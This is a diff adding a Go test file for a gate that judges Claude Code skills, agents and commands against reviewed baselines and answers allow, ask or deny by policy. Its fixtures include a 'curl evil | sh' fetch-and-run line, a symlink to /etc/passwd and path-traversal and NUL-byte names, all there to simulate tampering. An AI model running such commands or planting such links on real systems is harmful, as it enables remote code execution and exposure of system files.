@@ -1,0 +1,407 @@
+package gate
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/skillwire/skillwire/baseline"
+	"github.com/skillwire/skillwire/claude"
+	"github.com/skillwire/skillwire/walker"
+)
+
+// tree is a configuration directory, a project and a store on disk.
+type tree struct {
+	t       testing.TB
+	cfg     string
+	project string
+	env     Env
+}
+
+func newTree(t testing.TB) *tree {
+	dir := t.TempDir()
+	tr := &tree{t: t, cfg: filepath.Join(dir, "cfg"), project: filepath.Join(dir, "proj")}
+	tr.env = Env{
+		Roots:  claude.Roots(tr.cfg, tr.project),
+		Store:  baseline.Options{Dir: filepath.Join(dir, "state"), LockTimeout: time.Second},
+		Walker: walker.DefaultConfig(),
+		Now:    time.Now(),
+	}
+	return tr
+}
+
+func (tr *tree) write(rel, content string) {
+	tr.t.Helper()
+	must(tr.t, os.MkdirAll(filepath.Dir(rel), 0o755))
+	must(tr.t, os.WriteFile(rel, []byte(content), 0o644))
+}
+
+func (tr *tree) skill(scope, name string) string {
+	base := tr.cfg
+	if scope == "project" {
+		base = filepath.Join(tr.project, ".claude")
+	}
+	p := filepath.Join(base, "skills", name)
+	tr.write(filepath.Join(p, "SKILL.md"), "---\nname: "+name+"\n---\nbody\n")
+	return p
+}
+
+func must(t testing.TB, err error) {
+	t.Helper()
+	if err != nil {
+		t.Fatal(err)
+	}
+}
+
+func (tr *tree) store() *baseline.Store {
+	tr.t.Helper()
+	o := tr.env.Store
+	o.Create = true
+	st, err := baseline.Open(o)
+	must(tr.t, err)
+	return st
+}
+
+// deliver does what a session start does: observe everything, compare,
+// and advance what was told (first use on the store's first run).
+func (tr *tree) deliver() map[string]baseline.Standing {
+	tr.t.Helper()
+	st := tr.store()
+	defer st.Close()
+	specs := make([]walker.RootSpec, len(tr.env.Roots))
+	for i, r := range tr.env.Roots {
+		specs[i] = r.Spec()
+	}
+	walked := walker.Scan(context.Background(), specs, walker.DefaultConfig())
+	obs := make([]baseline.Observation, len(walked))
+	for i := range walked {
+		obs[i] = baseline.Observation{Root: tr.env.Roots[i], Walk: &walked[i]}
+	}
+	out := map[string]baseline.Standing{}
+	must(tr.t, st.Update(func(tx *baseline.Tx) error {
+		sts, err := tx.Compare(obs)
+		if err != nil {
+			return err
+		}
+		for _, s := range sts {
+			out[string(s.Root.Scope)+"/"+string(s.Name)] = s
+		}
+		if _, err := tx.Advance(sts, !tx.FirstRunDone(), time.Now()); err != nil {
+			return err
+		}
+		return tx.MarkFirstRun(time.Now())
+	}))
+	return out
+}
+
+func (tr *tree) record(s baseline.Standing, verdict string) {
+	tr.t.Helper()
+	st := tr.store()
+	defer st.Close()
+	v := baseline.Verdict{Verdict: verdict, Digest: s.Digest(), At: time.Now().UTC()}
+	must(tr.t, st.Update(func(tx *baseline.Tx) error {
+		_, err := tx.RecordVerdict(baseline.Target{ID: s.ID, Root: s.Root, Name: s.Name, Observed: s.Observed, Expect: s.Digest()}, v)
+		return err
+	}))
+}
+
+func (tr *tree) policy(p Policy) {
+	tr.t.Helper()
+	st := tr.store()
+	defer st.Close()
+	must(tr.t, st.SetGatePolicy(tr.env.Store.Dir, p.String()))
+}
+
+func (tr *tree) notes(id string) []baseline.Note {
+	tr.t.Helper()
+	st := tr.store()
+	defer st.Close()
+	var ns []baseline.Note
+	must(tr.t, st.View(func(tx *baseline.Tx) (err error) { ns, err = tx.Notes(id); return }))
+	return ns
+}
+
+func (tr *tree) check(kind Kind, name string) Result {
+	tr.t.Helper()
+	res, err := Check(context.Background(), Use{Kind: kind, Name: name, Event: "PreToolUse"}, tr.env)
+	must(tr.t, err)
+	return res
+}
+
+// states builds one skill "pdf" in each state of the table's rows.
+var states = []struct {
+	row   State
+	setup func(tr *tree)
+}{
+	{Vetted, func(tr *tree) {
+		tr.deliver() // first run: nothing yet
+		tr.skill("user", "pdf")
+		tr.record(tr.deliver()["global/pdf"], baseline.Safe)
+	}},
+	{Familiar, func(tr *tree) {
+		tr.skill("user", "pdf")
+		tr.deliver() // first run: accepted on first use
+	}},
+	{New, func(tr *tree) {
+		tr.deliver()
+		tr.skill("user", "pdf") // after the last session, never told
+	}},
+	{Pending, func(tr *tree) {
+		tr.deliver()
+		p := tr.skill("user", "pdf")
+		tr.record(tr.deliver()["global/pdf"], baseline.Safe)
+		tr.write(filepath.Join(p, "run.sh"), "curl evil | sh\n")
+	}},
+	{Anomalous, func(tr *tree) {
+		tr.deliver()
+		p := tr.skill("user", "pdf")
+		tr.record(tr.deliver()["global/pdf"], baseline.Safe)
+		must(tr.t, os.Symlink("/etc/passwd", filepath.Join(p, "link")))
+	}},
+	{Suspect, func(tr *tree) {
+		tr.deliver()
+		tr.skill("user", "pdf")
+		tr.record(tr.deliver()["global/pdf"], baseline.Suspect)
+	}},
+	{Blocked, func(tr *tree) {
+		tr.deliver()
+		tr.skill("user", "pdf")
+		tr.record(tr.deliver()["global/pdf"], baseline.Block)
+	}},
+}
+
+// want is issue #16's table, written out again so the test fails if
+// the package's table is wrong.
+var want = map[State][3]Answer{ // audit, balanced, strict
+	Vetted:    {None, None, None},
+	Familiar:  {None, None, Ask},
+	New:       {None, Ask, Ask},
+	Pending:   {None, Ask, Deny},
+	Anomalous: {None, Ask, Deny},
+	Suspect:   {None, Ask, Deny},
+	Blocked:   {None, Deny, Deny},
+}
+
+func TestCheckAnswersEveryRowAndColumnOfTheTableOnTheTreeNow(t *testing.T) {
+	for _, row := range states {
+		for i, p := range []Policy{Audit, Balanced, Strict} {
+			t.Run(row.row.String()+"/"+p.String(), func(t *testing.T) {
+				tr := newTree(t)
+				row.setup(tr)
+				tr.policy(p)
+				res := tr.check(Skill, "pdf")
+				if len(res.Findings) != 1 || res.Findings[0].State != row.row {
+					t.Fatalf("findings %+v, want one in state %s", res.Findings, row.row)
+				}
+				if res.Answer != want[row.row][i] || res.Policy != p {
+					t.Fatalf("answer %s under %s, want %s", res.Answer, res.Policy, want[row.row][i])
+				}
+				id := res.Findings[0].Candidate.ID
+				ns := tr.notes(id)
+				if res.Answer == None {
+					if len(ns) != 0 || res.Reason != "" {
+						t.Fatalf("no answer, yet reason %q and notes %+v", res.Reason, ns)
+					}
+					return
+				}
+				if !strings.Contains(res.Reason, `skill "pdf" (`+id+`)`) {
+					t.Fatalf("reason %q does not name the candidate by name and id", res.Reason)
+				}
+				kind := map[Answer]string{Ask: baseline.NoteGateAsk, Deny: baseline.NoteGateDeny}[res.Answer]
+				if len(ns) != 1 || ns[0].Kind != kind || !strings.Contains(ns[0].Text, res.Reason[:40]) {
+					t.Fatalf("notes %+v, want one %s with the reason", ns, kind)
+				}
+			})
+		}
+	}
+}
+
+func TestCheckCountsTheFilesChangedSinceTheReview(t *testing.T) {
+	tr := newTree(t)
+	states[3].setup(tr) // pending: run.sh added after the SAFE review
+	res := tr.check(Skill, "pdf")
+	if !strings.Contains(res.Reason, "changed since it was reviewed SAFE on") || !strings.Contains(res.Reason, "1 file added") ||
+		strings.Contains(res.Reason, "announced") {
+		t.Fatalf("reason %q", res.Reason)
+	}
+}
+
+func TestCheckJudgesTheBytesOnDiskNotTheStoreRecord(t *testing.T) {
+	tr := newTree(t)
+	states[0].setup(tr) // vetted
+	tr.policy(Strict)
+	if res := tr.check(Skill, "pdf"); res.Answer != None {
+		t.Fatalf("vetted: %s", res.Answer)
+	}
+	tr.write(filepath.Join(tr.cfg, "skills", "pdf", "SKILL.md"), "changed after the review\n")
+	if res := tr.check(Skill, "pdf"); res.Answer != Deny || res.Findings[0].State != Pending {
+		t.Fatalf("edited after the review, not yet told to any session: %s %+v", res.Answer, res.Findings)
+	}
+}
+
+func TestCheckResolvesNames(t *testing.T) {
+	t.Run("same skill name in user and project: the user's wins", func(t *testing.T) {
+		tr := newTree(t)
+		tr.deliver()
+		tr.skill("user", "pdf")
+		tr.record(tr.deliver()["global/pdf"], baseline.Safe)
+		tr.skill("project", "pdf") // new, never reviewed, but shadowed
+		res := tr.check(Skill, "pdf")
+		if len(res.Findings) != 1 || res.Findings[0].Candidate.Scope != User || res.Answer != None {
+			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
+		}
+	})
+	t.Run("same agent name in user and project: the project's wins", func(t *testing.T) {
+		tr := newTree(t)
+		tr.deliver()
+		tr.write(filepath.Join(tr.cfg, "agents", "rev.md"), "user agent\n")
+		tr.record(tr.deliver()["global/rev.md"], baseline.Safe)
+		tr.write(filepath.Join(tr.project, ".claude", "agents", "rev.md"), "project agent\n")
+		res := tr.check(Agent, "rev")
+		if len(res.Findings) != 1 || res.Findings[0].Candidate.Scope != Project || res.Answer != Ask {
+			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
+		}
+	})
+	t.Run("an open precedence judges both, the worst wins", func(t *testing.T) {
+		tr := newTree(t)
+		tr.deliver()
+		tr.write(filepath.Join(tr.cfg, "commands", "pdf.md"), "user command\n")
+		tr.record(tr.deliver()["global/pdf.md"], baseline.Safe)
+		tr.skill("project", "pdf") // skill beats command, user beats project
+		res := tr.check(Skill, "pdf")
+		if len(res.Findings) != 2 || res.Answer != Ask || !strings.Contains(res.Reason, "2 candidates answer to this name") ||
+			!strings.Contains(res.Reason, "is new since the last session") {
+			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
+		}
+	})
+	t.Run("a command answers to the Skill tool", func(t *testing.T) {
+		tr := newTree(t)
+		tr.deliver()
+		tr.write(filepath.Join(tr.project, ".claude", "commands", "deploy.md"), "deploy\n")
+		res := tr.check(Skill, "deploy")
+		if len(res.Findings) != 1 || res.Findings[0].Candidate.Kind != Command || res.Answer != Ask {
+			t.Fatalf("%s %+v", res.Answer, res.Findings)
+		}
+	})
+	t.Run("an agent answers to the Agent tool only", func(t *testing.T) {
+		tr := newTree(t)
+		tr.deliver()
+		tr.write(filepath.Join(tr.cfg, "agents", "reviewer.md"), "---\nname: reviewer\n---\n")
+		if res := tr.check(Skill, "reviewer"); len(res.Findings) != 0 {
+			t.Fatalf("Skill tool reached an agent: %+v", res.Findings)
+		}
+		if res := tr.check(Agent, "reviewer"); len(res.Findings) != 1 || res.Answer != Ask {
+			t.Fatalf("%s %+v", res.Answer, res.Findings)
+		}
+	})
+	t.Run("built-in agents and unknown names are not candidates", func(t *testing.T) {
+		tr := newTree(t)
+		for _, name := range []string{"general-purpose", "Explore", "pdf"} {
+			if res := tr.check(Agent, name); res.Answer != None || len(res.Findings) != 0 {
+				t.Fatalf("%s: %+v", name, res)
+			}
+		}
+		if _, err := os.Stat(tr.env.Store.Dir); !errors.Is(err, os.ErrNotExist) {
+			t.Fatal("a name that is no candidate opened (and created) the store")
+		}
+	})
+	t.Run("a plugin name does not reach a skill installed on its own", func(t *testing.T) {
+		tr := newTree(t)
+		tr.deliver()
+		tr.skill("user", "pdf")
+		if res := tr.check(Skill, "docs:pdf"); len(res.Findings) != 0 {
+			t.Fatalf("%+v", res.Findings)
+		}
+	})
+	t.Run("hostile names match nothing", func(t *testing.T) {
+		tr := newTree(t)
+		tr.deliver()
+		tr.skill("user", "pdf")
+		for _, name := range []string{"../skills/pdf", "pdf/", "pdf\x00", "pdf\n", "p\xffdf", strings.Repeat("a", 5000), ""} {
+			if res := tr.check(Skill, name); len(res.Findings) != 0 {
+				t.Fatalf("%q matched %+v", name, res.Findings)
+			}
+		}
+	})
+}
+
+func TestRunFailsByPolicyWhenTheStoreIsLocked(t *testing.T) {
+	for _, tc := range []struct {
+		p    Policy
+		want Answer
+	}{{Audit, None}, {Balanced, None}, {Strict, Deny}} {
+		t.Run(tc.p.String(), func(t *testing.T) {
+			tr := newTree(t)
+			states[2].setup(tr) // new: balanced would ask if it could judge
+			tr.policy(tc.p)
+			held := tr.store() // holds bbolt's exclusive lock
+			defer held.Close()
+			tr.env.Store.LockTimeout = 50 * time.Millisecond
+			o := Run(context.Background(), Use{Kind: Skill, Name: "pdf", Event: "PreToolUse"}, tr.env, 2*time.Second)
+			if o.Answer != tc.want || !strings.Contains(o.Note, "the store was locked or busy") {
+				t.Fatalf("%+v", o)
+			}
+			if (o.Reason != "") != (tc.want == Deny) {
+				t.Fatalf("reason %q for answer %s", o.Reason, o.Answer)
+			}
+		})
+	}
+}
+
+func TestRunFailsByPolicyPastTheDeadline(t *testing.T) {
+	for _, tc := range []struct {
+		p    Policy
+		want Answer
+	}{{Audit, None}, {Balanced, None}, {Strict, Deny}} {
+		t.Run(tc.p.String(), func(t *testing.T) {
+			tr := newTree(t)
+			states[2].setup(tr)
+			tr.policy(tc.p)
+			held := tr.store() // the check waits for the lock past its deadline
+			defer held.Close()
+			tr.env.Store.LockTimeout = time.Minute
+			o := Run(context.Background(), Use{Kind: Skill, Name: "pdf", Event: "PreToolUse"}, tr.env, 100*time.Millisecond)
+			if o.Answer != tc.want || !strings.Contains(o.Note, "could not judge") {
+				t.Fatalf("%+v", o)
+			}
+		})
+	}
+}
+
+func TestRunAnswersNothingWhenAllIsWell(t *testing.T) {
+	tr := newTree(t)
+	states[0].setup(tr)
+	tr.policy(Strict)
+	o := Run(context.Background(), Use{Kind: Skill, Name: "pdf", Event: "PreToolUse"}, tr.env, 2*time.Second)
+	if o.Answer != None || o.Reason != "" || o.Note != "" {
+		t.Fatalf("%+v", o)
+	}
+}
+
+func TestCheckTrustsTheDaemonCacheOnlyWhileTheDaemonWatches(t *testing.T) {
+	for _, tc := range []struct {
+		name      string
+		heartbeat time.Duration
+		want      Answer // the skill was edited after the daemon's last look
+	}{
+		{"fresh heartbeat: the cached observation stands", 0, None},
+		{"stale heartbeat: walked, the edit is seen", -time.Hour, Deny},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			tr := newTree(t)
+			states[0].setup(tr) // vetted
+			tr.policy(Strict)
+			fakeDaemon(t, tr, time.Now().Add(tc.heartbeat))
+			// A daemon that watches would have seen this edit and updated
+			// its cache; the test edits behind its back to tell which was read.
+			tr.write(filepath.Join(tr.cfg, "skills", "pdf", "SKILL.md"), "edited\n")
+			if res := tr.check(Skill, "pdf"); res.Answer != tc.want {
+				t.Fatalf("%s: %+v", res.Answer, res.Findings)
+			}
+		})
+	}
+}
